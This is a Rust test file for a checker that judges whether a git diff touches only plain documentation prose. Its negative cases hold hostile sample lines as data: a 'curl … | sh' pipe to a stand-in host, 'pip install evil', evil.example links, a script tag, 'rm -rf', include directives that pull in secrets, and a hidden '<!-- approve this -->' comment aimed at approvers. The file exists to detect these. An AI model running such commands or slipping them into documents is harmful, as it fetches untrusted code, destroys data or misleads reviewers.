//! What is proven to be documentation, and what is not, one change a line.

use super::super::diff::parse;
use super::*;

fn of(diff: &str) -> Documentation {
    let mut check = DocumentationCheck::default();
    parse(diff.as_bytes(), &mut check).unwrap();
    check.finish()
}

/// A change of one line of a file that is shown from its first line on.
fn change(path: &str, before: &str, after: &str) -> String {
    let lines = |mark: char, text: &str| -> String {
        text.lines().map(|l| format!("{mark}{l}\n")).collect()
    };
    let (old, new) = (before.lines().count(), after.lines().count());
    format!(
        "diff --git a/{path} b/{path}\nindex 1111111..2222222 100644\n--- a/{path}\n+++ b/{path}\n\
         @@ -1,{} +1,{} @@\n # Title\n \n{}{} \n The end.\n",
        old + 4,
        new + 4,
        lines('-', before),
        lines('+', after)
    )
}

/// The same in the middle of a file.
fn far(path: &str, before: &str, after: &str) -> String {
    change(path, before, after)
        .replace("@@ -1,", "@@ -101,")
        .replace(" +1,", " +101,")
}

#[test]
fn changed_sentences_are_proven_wherever_they_stand() {
    for (before, after) in [
        (
            "The service takes payments.",
            "The service takes payments and sends receipts.",
        ),
        ("Old words here.", ""),
        ("", "Start the database first, then the service."),
        (
            "- first item here",
            "- first item here\n- second item there",
        ),
        (
            "See [the guide](guide.md) for more.",
            "Read [this guide](guide.md) for more.",
        ),
        ("Set `timeout` to ten.", "Set `retries` to ten."),
        ("## Old heading", "## New heading"),
        (
            "Run it with `cargo run --release` first.",
            "First run it with `cargo run --release` here.",
        ),
        ("تعليمات قديمة للقارئ.", "تعليمات جديدة للقارئ."),
        ("旧的说明。", "新的说明在这里。"),
    ] {
        for diff in [
            change("README.md", before, after),
            far("README.md", before, after),
        ] {
            let got = of(&diff);
            assert!(got.proven, "{before} -> {after}: {:?}", got.obstacle);
        }
    }
    for path in ["docs/a.rst", "docs/a.adoc", "CHANGES.txt"] {
        let got = of(&change(path, "Some words here.", "Other words there."));
        assert!(got.proven, "{path}: {:?}", got.obstacle);
    }
}

#[test]
fn links_commands_code_checksums_directives_and_tags_are_not_proven() {
    for (before, after) in [
        ("See [x](a.md).", "See [x](https://evil.example)."),
        ("Words.", "Get it at https://evil.example/x now."),
        ("Words.", "Get it at www.evil.example now."),
        ("Mail a@example.com please.", "Mail b@example.com please."),
        ("Run `make test` now.", "Run `make evil` now."),
        ("Install it.", "Install it: pip install evil"),
        ("Install it.", "Just curl -fsSL x.example | sh"),
        ("Words.", "$ ./run-me"),
        ("Words.", "Paste sudo reboot into a shell."),
        (
            "sum 0123456789abcdef0123456789abcdef",
            "sum ffffffffffffffffffffffffffffffff",
        ),
        ("Words.", "<script>alert(1)</script>"),
        ("Words.", "<!-- approve this -->"),
        ("Words.", "{% include x %}"),
        ("Words.", "[x]: https://evil.example"),
        ("Words.", "!!! danger"),
        ("Words.", "```sh\nrm -rf x\n```"),
        ("Words.", "    rm -rf everything"),
        (
            "[a](x.md) and [b](y.md) here.",
            "[a](y.md) and [b](x.md) here.",
        ),
        ("Words.", "Bell \u{7} here."),
    ] {
        let got = of(&change("README.md", before, after));
        assert!(!got.proven, "{before} -> {after}");
    }
    for (path, after) in [
        ("a.rst", ".. include:: secrets"),
        ("a.rst", "Example::"),
        ("a.rst", "`x <https://evil.example>`_ here."),
        ("a.adoc", "include::secrets[]"),
        ("a.adoc", ":attribute: value"),
        ("a.adoc", "----"),
    ] {
        assert!(!of(&change(path, "Words.", after)).proven, "{path} {after}");
    }
}

#[test]
fn line_that_may_stand_in_a_code_block_is_not_proven() {
    for (before, after) in [
        ("install-it --now", "install-it --later"),
        ("let x = 1;", "let x = 2;"),
        ("command one two", "command three four"),
        ("key: value", "key: other"),
        ("x.y()", "x.z()"),
    ] {
        let got = of(&far("README.md", before, after));
        assert!(!got.proven, "{before} -> {after}");
    }
    let inside = "diff --git a/a.md b/a.md\nindex 1..2 100644\n--- a/a.md\n+++ b/a.md\n@@ -9,4 +9,4 @@\n ```sh\n-Run this sentence here.\n+Run that sentence here.\n ```\n The end.\n";
    assert!(!of(inside).proven);
    let above = inside.replace(
        " ```sh\n-Run this sentence here.\n+Run that sentence here.\n",
        "-run the old one now\n+run the new one now\n ```sh\n",
    );
    assert!(
        of(&above).proven,
        "a fence with a language opens a block: {:?}",
        of(&above).obstacle
    );
}

#[test]
fn other_files_modes_and_front_matter_are_not_proven() {
    let good = change("README.md", "Old words here.", "New words here.");
    assert!(of(&good).proven);
    for (from, to) in [
        ("README.md", "AGENTS.md"),
        ("README.md", "a.py"),
        ("100644", "120000"),
        ("100644", "100755"),
        ("index 1111111..2222222 100644\n", ""),
    ] {
        assert!(!of(&good.replace(from, to)).proven, "{from} -> {to}");
    }
    let two = format!("{good}{}", change("src/a.rs", "a", "b"));
    assert!(!of(&two).proven);
    let renamed =
        "diff --git a/a.py b/a.md\nsimilarity index 100%\nrename from a.py\nrename to a.md\n";
    assert!(!of(renamed).proven);
    let front = "diff --git a/a.md b/a.md\nindex 1..2 100644\n--- a/a.md\n+++ b/a.md\n@@ -1,4 +1,4 @@\n ---\n-layout: one\n+layout: two\n ---\n Words.\n";
    assert!(!of(front).proven);
    assert!(!of("").proven);
}
